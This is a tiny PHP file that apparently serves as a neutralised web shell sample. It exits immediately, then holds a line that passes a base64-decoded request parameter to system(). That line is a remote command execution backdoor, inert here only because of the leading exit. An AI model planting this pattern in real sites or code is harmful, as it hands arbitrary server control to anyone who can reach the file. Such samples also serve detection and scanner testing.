<?php exit;
system( /* run */ base64_decode($_REQUEST['c']));
